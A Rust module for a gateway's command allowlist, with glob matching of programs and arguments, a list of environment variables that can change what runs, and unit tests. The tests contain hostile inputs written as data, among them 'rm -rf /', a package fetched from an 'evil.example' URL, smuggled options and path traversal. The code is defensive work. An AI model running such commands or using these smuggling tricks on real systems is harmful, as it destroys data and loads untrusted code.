//! `allow_commands`: which programs may be registered.
//!
//! A glob of one word is held against the command alone, and allows any arguments. One of several words is held against
//! command and arguments word by word, as many as there are; `*` as the last word stands for whatever follows. Words
//! are split as a shell does it, and nothing is ever given to a shell.
//!
//! In an argument, a wildcard stands for no `@`, `:`, `=` and no blank, and for no step out of a folder (`..`), and it
//! does not begin an option: `npx -y @scope/*` allows every package of that scope in its own place, and no other version
//! or source of one (`@scope/x@npm:other`).

use gateway_core::role::Pattern;

/// What wildcards in arguments do not stand for.
const SPECIAL: [char; 3] = ['@', ':', '='];

/// Variables by which programs that start others, and the loaders of programs, are told what to run or to load. In
/// upper case; those that end in `*` are beginnings.
const VARIABLES: &[&str] = &[
    // The system's own, and what shells read.
    "PATH",
    "LD_*",
    "DYLD_*",
    "GCONV_PATH",
    "GLIBC_*",
    "LOCPATH",
    "HOME",
    "XDG_*",
    "TMPDIR",
    "SHELL",
    "ENV",
    "BASH*",
    "ZDOTDIR",
    "SHELLOPTS",
    "IFS",
    "PS4",
    "PROMPT_COMMAND",
    "EDITOR",
    "VISUAL",
    "PAGER",
    "BROWSER",
    "LESSOPEN",
    // Languages.
    "NODE_*",
    "TS_NODE_*",
    "ELECTRON_*",
    "DENO_*",
    "BUN_*",
    "PYTHON*",
    "VIRTUAL_ENV",
    "RUBY*",
    "GEM_*",
    "BUNDLE_*",
    "PERL*",
    "PHPRC",
    "PHP_INI_SCAN_DIR",
    "LUA_*",
    "JAVA_*",
    "_JAVA_*",
    "JDK_*",
    "CLASSPATH",
    "DOTNET_*",
    "CORECLR_*",
    "COR_*",
    "COMPLUS_*",
    "MONO_*",
    "R_*",
    "GO*",
    "RUST*",
    "CARGO_*",
    // What fetches programs, and what they are fetched through.
    "NPM_*",
    "YARN_*",
    "PNPM_*",
    "COREPACK_*",
    "INIT_CWD",
    "PIP_*",
    "PIPX_*",
    "UV_*",
    "CONDA_*",
    "POETRY_*",
    "DOCKER_*",
    "CONTAINER*",
    "PODMAN_*",
    "KUBECONFIG",
    "GIT_*",
    "SSH_*",
    "HTTP_PROXY",
    "HTTPS_PROXY",
    "ALL_PROXY",
    "NO_PROXY",
    "SSL_*",
    "OPENSSL_*",
    "CURL_*",
    "REQUESTS_CA_BUNDLE",
];

/// Whether what that variable says could decide what is run.
pub(super) fn decides_what_runs(name: &str) -> bool {
    let name = name.to_ascii_uppercase();
    VARIABLES.iter().any(|known| match known.strip_suffix('*') {
        Some(beginning) => name.starts_with(beginning),
        None => name == *known,
    })
}

/// Whether the command is the same program from wherever it is started: found by `PATH`, or by its whole path.
pub(super) fn is_plain(command: &str) -> bool {
    match command.contains('/') {
        false => !command.is_empty(),
        true => command.starts_with('/') && !steps_out(command),
    }
}

/// Whether `glob` allows to run `command` with `args`.
pub(super) fn allows(glob: &Pattern, command: &str, args: &[String]) -> bool {
    let Ok(words) = shell_words::split(glob.as_str()) else { return false };
    let Some((program, rest)) = words.split_first() else { return false };
    matches(program, command) && (rest.is_empty() || follow(rest, args))
}

fn follow(globs: &[String], args: &[String]) -> bool {
    match (globs, args) {
        ([last], _) if last == "*" => true,
        ([], []) => true,
        ([glob, globs @ ..], [arg, args @ ..]) => argument(glob, arg) && follow(globs, args),
        _ => false,
    }
}

fn argument(glob: &str, arg: &str) -> bool {
    if glob == arg {
        return true;
    }
    // As many of them as are written: then none of them is a wildcard's.
    let written = |special: char| count(arg, special) <= count(glob, special);
    let blanks = |text: &str| text.chars().filter(|c| c.is_whitespace() || c.is_control()).count();
    let begins = arg.starts_with('-') <= glob.starts_with('-');
    matches(glob, arg) && SPECIAL.into_iter().all(written) && blanks(arg) <= blanks(glob) && begins && !steps_out(arg)
}

fn count(text: &str, wanted: char) -> usize {
    text.chars().filter(|c| *c == wanted).count()
}

fn steps_out(path: &str) -> bool {
    path.split('/').any(|part| part == "..")
}

fn matches(glob: &str, text: &str) -> bool {
    Pattern::new(glob).is_ok_and(|glob| glob.matches(text))
}

/// The command line in one line, as it would have to be allowed.
pub(super) fn line(command: &str, args: &[String]) -> String {
    let words = std::iter::once(command).chain(args.iter().map(String::as_str));
    // What would be a wildcard stands for itself.
    let escaped = words.map(|word| {
        let escape = |c: char| if "*?[]{}\\!".contains(c) { format!("[{c}]") } else { c.to_string() };
        shell_words::quote(&word.chars().map(escape).collect::<String>()).into_owned()
    });
    escaped.collect::<Vec<_>>().join(" ")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn is_allowed(glob: &str, line: &str) -> bool {
        let words = shell_words::split(line).unwrap();
        allows(&Pattern::new(glob).unwrap(), &words[0], &words[1..])
    }

    #[test]
    fn commands_are_those_that_are_named() {
        for (glob, line) in [
            ("npx", "npx -y anything"),
            ("*", "sh -c 'rm -rf /'"),
            ("/opt/tools/*", "/opt/tools/a --flag"),
            ("npx -y @scope/*", "npx -y @scope/server"),
            ("npx -y @scope/* *", "npx -y @scope/server /data --flag"),
            ("npx -y @scope/* *", "npx -y @scope/server"),
            ("npx -y @scope/x@1.2", "npx -y @scope/x@1.2"),
            ("uvx mcp-server-* --root=*", "uvx mcp-server-git --root=/srv/git"),
            ("python3 'a b.py'", "python3 'a b.py'"),
            ("{npx,uvx} x", "uvx x"),
        ] {
            assert!(is_allowed(glob, line), "{glob}: {line}");
        }
    }

    #[test]
    fn others_are_not() {
        for (glob, line) in [
            ("npx", "npx2"),
            ("npx", "/tmp/npx"),
            ("npx", "NPX"),
            ("npx", "'npx -y'"),
            ("npx -y @scope/*", "npx -y"),
            ("npx -y @scope/*", "npx -y @scope/server /data"),
            ("npx -y @scope/*", "npx -y @other/server"),
            ("npx -y @scope/*", "npx --package=evil @scope/server"),
            ("npx -y @scope/*", "npx -y @scope/x@npm:evil"),
            ("npx -y @scope/*", "npx -y @scope/x@https://evil.example/x.tgz"),
            ("npx -y @scope/*", "npx -y '@scope/x evil'"),
            ("npx -y @scope/*", "npx -y @scope/../../evil"),
            ("npx * x", "npx --call=evil x"),
            ("npx * x", "npx -cevil x"),
            ("uvx mcp-server-*", "uvx 'mcp-server-x\nevil'"),
            ("'npx", "npx"),
        ] {
            assert!(!is_allowed(glob, line), "{glob}: {line}");
        }
    }

    #[test]
    fn the_line_in_a_hint_allows_that_and_nothing_else() {
        let args = ["-y", "a b", "*", "x[1]", "it's", "é\"", "--a=b@c"].map(str::to_owned);
        let line = line("npx", &args);
        assert!(allows(&Pattern::new(&line).unwrap(), "npx", &args), "{line}");
        let mut others = args;
        others[2] = "anything".to_owned();
        assert!(!allows(&Pattern::new(&line).unwrap(), "npx", &others), "{line}");
        let alone = super::line("np*", &[]);
        assert!(allows(&Pattern::new(&alone).unwrap(), "np*", &[]) && !is_allowed(&alone, "npx"), "{alone}");
    }

    #[test]
    fn programs_do_not_depend_on_a_folder() {
        for plain in ["npx", "/usr/bin/npx", "a.b"] {
            assert!(is_plain(plain), "{plain}");
        }
        for other in ["", "./npx", "bin/npx", "../npx", "/usr/bin/../../tmp/npx", "~/npx"] {
            assert!(!is_plain(other), "{other}");
        }
    }

    #[test]
    fn variables_that_decide_what_runs() {
        for name in
            ["PATH", "LD_PRELOAD", "NODE_OPTIONS", "npm_config_registry", "PYTHONPATH", "BASH_ENV", "https_proxy"]
        {
            assert!(decides_what_runs(name), "{name}");
        }
        for name in ["TOKEN", "API_KEY", "GITHUB_TOKEN", "DATABASE_URL", "LANG", "PATHS", "DEBUG"] {
            assert!(!decides_what_runs(name), "{name}");
        }
    }
}
